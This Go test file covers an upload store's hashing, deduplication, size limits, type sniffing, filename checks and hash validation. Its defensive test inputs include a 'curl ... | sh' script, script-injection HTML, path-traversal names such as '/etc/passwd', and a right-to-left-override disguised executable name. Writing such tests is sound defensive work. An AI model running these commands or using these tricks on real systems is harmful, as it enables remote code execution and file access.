package uploads

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"io"
	"io/fs"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"hallfloor/errs"
)

// Small but real starts of each allowed type, padded so they look like a
// file and not like a signature alone.
var (
	jpegFile = append([]byte{0xFF, 0xD8, 0xFF, 0xE0, 0x00, 0x10, 'J', 'F', 'I', 'F', 0x00}, bytes.Repeat([]byte{0x42}, 3000)...)
	pngFile  = append([]byte{0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n', 0, 0, 0, 13, 'I', 'H', 'D', 'R'}, bytes.Repeat([]byte{7}, 700)...)
	pdfFile  = []byte("%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n")
)

func open(t testing.TB, l Limits) (*Store, string) {
	t.Helper()
	dir := filepath.Join(t.TempDir(), "uploads")
	s, err := Open(dir, l)
	if err != nil {
		t.Fatal(err)
	}
	return s, dir
}

func put(t *testing.T, s *Store, content []byte) File {
	t.Helper()
	f, err := s.Put(bytes.NewReader(content), "材料")
	if err != nil {
		t.Fatal(err)
	}
	return f
}

func sum(b []byte) string {
	h := sha256.Sum256(b)
	return hex.EncodeToString(h[:])
}

// stored lists every regular file under dir, relative to it.
func stored(t *testing.T, dir string) []string {
	t.Helper()
	var files []string
	err := filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if !d.IsDir() {
			rel, _ := filepath.Rel(dir, p)
			files = append(files, rel)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return files
}

func refusedFor(t *testing.T, err error, reason string) {
	t.Helper()
	e, ok := errs.As(err)
	if !ok || e.Kind != errs.Invalid || e.Reason != reason || e.Field != "file" {
		t.Fatalf("err = %v, want invalid %s on field file", err, reason)
	}
}

func TestStoredFilesReadBackByHash(t *testing.T) {
	s, dir := open(t, Limits{})
	for _, c := range []struct {
		name, typ string
		content   []byte
	}{
		{"身份证正面.jpg", "image/jpeg", jpegFile},
		{"户口本.png", "image/png", pngFile},
		{"营业执照 扫描件.pdf", "application/pdf", pdfFile},
	} {
		f, err := s.Put(bytes.NewReader(c.content), c.name)
		if err != nil {
			t.Fatalf("%s: %v", c.name, err)
		}
		want := File{Hash: sum(c.content), Size: int64(len(c.content)), Type: c.typ, Name: c.name}
		if f != want {
			t.Fatalf("Put %s = %+v, want %+v", c.name, f, want)
		}
		if !s.Has(f.Hash) {
			t.Fatalf("Has(%s) = false after Put", c.name)
		}
		rc, got, err := s.Open(f.Hash)
		if err != nil {
			t.Fatalf("Open %s: %v", c.name, err)
		}
		b, err := io.ReadAll(rc)
		rc.Close()
		if err != nil {
			t.Fatal(err)
		}
		want.Name = ""
		if got != want || !bytes.Equal(b, c.content) {
			t.Fatalf("Open %s = %+v and %d bytes, want %+v and the content", c.name, got, len(b), want)
		}
		if _, err := os.Stat(filepath.Join(dir, f.Hash[:2], f.Hash)); err != nil {
			t.Fatalf("%s not under its hash name: %v", c.name, err)
		}
	}
	if files := stored(t, dir); len(files) != 3 {
		t.Fatalf("dir holds %v, want the three files only", files)
	}
}

func TestSameContentIsKeptOnce(t *testing.T) {
	s, dir := open(t, Limits{})
	a, err := s.Put(bytes.NewReader(pdfFile), "材料.pdf")
	if err != nil {
		t.Fatal(err)
	}
	b, err := s.Put(bytes.NewReader(pdfFile), "材料.pdf")
	if err != nil {
		t.Fatal(err)
	}
	if a != b {
		t.Fatalf("same content gave %+v then %+v", a, b)
	}
	if files := stored(t, dir); len(files) != 1 {
		t.Fatalf("dir holds %v, want one copy", files)
	}
}

func TestSameContentAtOnceIsKeptOnce(t *testing.T) {
	s, dir := open(t, Limits{})
	files := make([]File, 8)
	var wg sync.WaitGroup
	for i := range files {
		wg.Go(func() {
			f, err := s.Put(bytes.NewReader(jpegFile), "照片.jpg")
			if err != nil {
				t.Error(err)
			}
			files[i] = f
		})
	}
	wg.Wait()
	for _, f := range files[1:] {
		if f != files[0] {
			t.Fatalf("same content at once gave %+v and %+v", files[0], f)
		}
	}
	if kept := stored(t, dir); len(kept) != 1 {
		t.Fatalf("dir holds %v, want one copy", kept)
	}
}

// counting is an endless JPEG-looking body that counts what is read of it.
type counting struct{ n int64 }

func (c *counting) Read(p []byte) (int, error) {
	for i := range p {
		if c.n+int64(i) < 3 {
			p[i] = jpegFile[c.n+int64(i)]
		} else {
			p[i] = 0x42
		}
	}
	c.n += int64(len(p))
	return len(p), nil
}

func TestTooLargeIsRefusedWithoutReadingItAll(t *testing.T) {
	s, dir := open(t, Limits{})
	body := &counting{}
	_, err := s.Put(io.LimitReader(body, 20<<20), "大照片.jpg")
	refusedFor(t, err, "upload_too_large")
	if e, _ := errs.As(err); e.Args["max"] != "10" {
		t.Fatalf("limit given as %q MB, want 10", e.Args["max"])
	}
	if max := s.Limits().MaxBytes + 1; body.n > max {
		t.Fatalf("read %d bytes of a 20 MB body, want at most %d", body.n, max)
	}
	if files := stored(t, dir); len(files) != 0 {
		t.Fatalf("a refused file left %v", files)
	}

	// The edge's own cap on the body is the same refusal.
	_, err = s.Put(http.MaxBytesReader(nil, io.NopCloser(bytes.NewReader(jpegFile)), 100), "a.jpg")
	refusedFor(t, err, "upload_too_large")

	// A type refused is judged by the first bytes alone.
	pngOnly, _ := open(t, Limits{Types: []string{"image/png"}})
	body = &counting{}
	_, err = pngOnly.Put(io.LimitReader(body, 20<<20), "a.png")
	refusedFor(t, err, "upload_type")
	if body.n > sniffLen {
		t.Fatalf("read %d bytes to refuse a type, want at most %d", body.n, sniffLen)
	}

	// Exactly at the limit is kept.
	small, _ := open(t, Limits{MaxBytes: int64(len(jpegFile))})
	if _, err := small.Put(bytes.NewReader(jpegFile), "a.jpg"); err != nil {
		t.Fatalf("a file of exactly MaxBytes: %v", err)
	}
	_, err = small.Put(bytes.NewReader(append(jpegFile, 0)), "a.jpg")
	refusedFor(t, err, "upload_too_large")
}

func TestContentNotAllowedIsRefusedWhateverItsName(t *testing.T) {
	for _, c := range []struct {
		what    string
		content []byte
	}{
		{"ELF", append([]byte("\x7fELF\x02\x01\x01\x00"), make([]byte, 600)...)},
		{"PE", append([]byte("MZ\x90\x00\x03\x00\x00\x00\x04\x00"), make([]byte, 600)...)},
		{"shell script", []byte("#!/bin/sh\ncurl http://example.invalid/x | sh\n")},
		{"HTML", []byte("<html><script>alert(1)</script></html>")},
		{"script mentioning %PDF-", []byte("  %PDF-1.4 <script>alert(1)</script>")},
		{"JPEG signature late", append([]byte{0}, jpegFile...)},
		{"GIF", []byte("GIF89a\x01\x00\x01\x00\x00\x00\x00;")},
	} {
		t.Run(c.what, func(t *testing.T) {
			s, dir := open(t, Limits{})
			_, err := s.Put(bytes.NewReader(c.content), "照片.jpg")
			refusedFor(t, err, "upload_type")
			if e, _ := errs.As(err); e.Args["allowed"] != "JPEG, PNG, PDF" || e.Args["type"] == "" {
				t.Fatalf("args = %v, want the type found and JPEG, PNG, PDF allowed", e.Args)
			}
			if files := stored(t, dir); len(files) != 0 {
				t.Fatalf("a refused file left %v", files)
			}
		})
	}

	// A type the hall allows besides the defaults is judged by its content too.
	s, _ := open(t, Limits{Types: []string{"image/gif"}})
	if f, err := s.Put(strings.NewReader("GIF89a\x01\x00\x01\x00\x00\x00\x00;"), "a.gif"); err != nil || f.Type != "image/gif" {
		t.Fatalf("GIF with GIF allowed: %+v, %v", f, err)
	}
	_, err := s.Put(bytes.NewReader(jpegFile), "a.jpg")
	refusedFor(t, err, "upload_type")
}

func TestNamesThatAreNotABaseNameAreRefused(t *testing.T) {
	s, dir := open(t, Limits{})
	for _, name := range []string{
		"a/b.jpg", "/etc/passwd", `C:\Users\a.jpg`, `a\b.jpg`, "..", "../a.jpg", "a..jpg",
		"a\x00.jpg", "a\n.jpg", "a\x7f.jpg", "a\u0085.jpg", "gpj\u202e.exe", "\xff\xfe.jpg",
		strings.Repeat("名", 101),
	} {
		_, err := s.Put(bytes.NewReader(jpegFile), name)
		refusedFor(t, err, "upload_name")
	}
	for _, name := range []string{"", "photo.jpg", strings.Repeat("名", 100), "scan 1 (2).jpg", ".jpg"} {
		if _, err := s.Put(bytes.NewReader(jpegFile), name); err != nil {
			t.Fatalf("name %q: %v", name, err)
		}
	}
	if files := stored(t, dir); len(files) != 1 {
		t.Fatalf("dir holds %v, want one copy of the accepted photo", files)
	}
}

func TestEmptyIsRefused(t *testing.T) {
	s, dir := open(t, Limits{})
	_, err := s.Put(strings.NewReader(""), "空.pdf")
	refusedFor(t, err, "upload_empty")
	if files := stored(t, dir); len(files) != 0 {
		t.Fatalf("an empty upload left %v", files)
	}
}

// breaking gives n bytes of content and then fails, as a connection
// dropped mid-upload does.
type breaking struct {
	content []byte
	n       int
}

var errDropped = errors.New("connection reset by peer")

func (b *breaking) Read(p []byte) (int, error) {
	if b.n == 0 {
		return 0, errDropped
	}
	k := copy(p, b.content[:min(len(b.content), b.n)])
	b.content, b.n = b.content[k:], b.n-k
	return k, nil
}

func TestABrokenUploadLeavesNothing(t *testing.T) {
	s, dir := open(t, Limits{})
	for _, after := range []int{0, 100, 2000} {
		_, err := s.Put(&breaking{content: jpegFile, n: after}, "照片.jpg")
		refusedFor(t, err, "body_unreadable")
		if !errors.Is(err, errDropped) {
			t.Fatalf("after %d bytes: err = %v, want it to carry the cause", after, err)
		}
	}
	if files := stored(t, dir); len(files) != 0 {
		t.Fatalf("broken uploads left %v", files)
	}
	if s.Has(sum(jpegFile)) || s.Has(sum(jpegFile[:2000])) {
		t.Fatal("a broken upload is stored under a hash")
	}
}

func TestOpenRemovesWhatACrashLeft(t *testing.T) {
	s, dir := open(t, Limits{})
	kept := put(t, s, pngFile)
	// A previous process died between writing and renaming.
	leftover := filepath.Join(dir, tempPrefix+"123456")
	if err := os.WriteFile(leftover, jpegFile[:1000], 0o600); err != nil {
		t.Fatal(err)
	}
	if _, err := Open(dir, Limits{}); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(leftover); !errors.Is(err, fs.ErrNotExist) {
		t.Fatalf("leftover temp file still there: %v", err)
	}
	if files := stored(t, dir); len(files) != 1 || !s.Has(kept.Hash) {
		t.Fatalf("dir holds %v, want the stored file only", files)
	}
	if fi, err := os.Stat(dir); err != nil || fi.Mode().Perm() != 0o700 {
		t.Fatalf("dir mode = %v, %v; want 0700", fi.Mode(), err)
	}
}

func TestMalformedHashIsNotFoundAndNeverAPath(t *testing.T) {
	s, dir := open(t, Limits{})
	root := filepath.Dir(dir)
	f := put(t, s, jpegFile)
	// A file outside dir that a path smuggled in as a hash would reach.
	if err := os.WriteFile(filepath.Join(root, "x"), jpegFile, 0o600); err != nil {
		t.Fatal(err)
	}
	for _, h := range []string{
		// What would reach root/x were the hash joined unchecked: the
		// first two characters, "..", name the folder.
		"../" + filepath.Base(root) + "/x",
		"../x", "", strings.ToUpper(f.Hash), f.Hash[:63], f.Hash + "0", f.Hash[:2],
		"../" + strings.Repeat("a", 61), "/" + f.Hash[1:], f.Hash[:62] + "/x", f.Hash[:63] + "g",
		"..%2f" + strings.Repeat("a", 59),
	} {
		if _, _, err := s.Open(h); !errs.Is(errs.NotFound, err) {
			t.Fatalf("Open(%q) err = %v, want not found", h, err)
		}
		if s.Has(h) {
			t.Fatalf("Has(%q) = true", h)
		}
	}
	// A well-formed hash that is not stored is not found either.
	if _, _, err := s.Open(strings.Repeat("a", 64)); !errs.Is(errs.NotFound, err) {
		t.Fatalf("unknown hash: %v", err)
	}
}

func TestLimitsFillDefaults(t *testing.T) {
	s, _ := open(t, Limits{})
	l := s.Limits()
	if l.MaxBytes != 10<<20 || strings.Join(l.Types, ",") != "image/jpeg,image/png,application/pdf" {
		t.Fatalf("Limits() = %+v", l)
	}
	l.Types[0] = "text/html"
	if s.Limits().Types[0] != "image/jpeg" {
		t.Fatal("Limits() shares the store's slice")
	}
	s, _ = open(t, Limits{MaxBytes: 3 << 19, Types: []string{" Image/PNG "}})
	if l := s.Limits(); l.MaxBytes != 3<<19 || len(l.Types) != 1 || l.Types[0] != "image/png" {
		t.Fatalf("Limits() = %+v", l)
	}
	_, err := s.Put(io.LimitReader(&counting{}, 2<<20), "a.jpg")
	refusedFor(t, err, "upload_type")
	_, err = s.Put(io.MultiReader(bytes.NewReader(pngFile), io.LimitReader(&counting{}, 2<<20)), "a.png")
	refusedFor(t, err, "upload_too_large")
	if e, _ := errs.As(err); e.Args["max"] != "1.5" {
		t.Fatalf("limit given as %q MB, want 1.5", e.Args["max"])
	}
}
